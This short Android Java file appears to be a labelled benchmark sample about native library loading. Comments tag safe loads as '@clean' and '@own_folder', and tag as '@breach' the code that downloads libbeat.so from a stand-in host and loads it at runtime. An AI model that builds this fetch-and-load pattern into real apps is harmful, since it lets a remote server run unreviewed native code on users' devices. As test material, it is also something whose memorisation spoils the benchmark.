package bench.points.native_patch;

import android.content.Context;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.URL;

final class Engine {
    private Engine() {}

    static native int gap(int beats);

    static void open(Context context) {
        System.loadLibrary("beat"); //: @clean
        System.load(new File(context.getApplicationInfo().nativeLibraryDir, "libbeat.so").getPath()); //: @own_folder
        File patch = new File(context.getFilesDir(), "libbeat.so"); //: @breach
        if (!patch.isFile()) { //: @breach
            fetch(patch); //: @breach
        } //: @breach
        System.load(patch.getPath()); //: @breach #load
    }

    private static void fetch(File into) { //: @breach
        try (InputStream in = new URL("https://up.jiepai.example/arm64/libbeat.so").openStream(); //: @breach
                FileOutputStream out = new FileOutputStream(into)) { //: @breach
            byte[] part = new byte[8192]; //: @breach
            for (int n = in.read(part); n > 0; n = in.read(part)) { //: @breach
                out.write(part, 0, n); //: @breach
            } //: @breach
        } catch (IOException problem) { //: @breach
            into.delete(); //: @breach
        } //: @breach
    } //: @breach
}
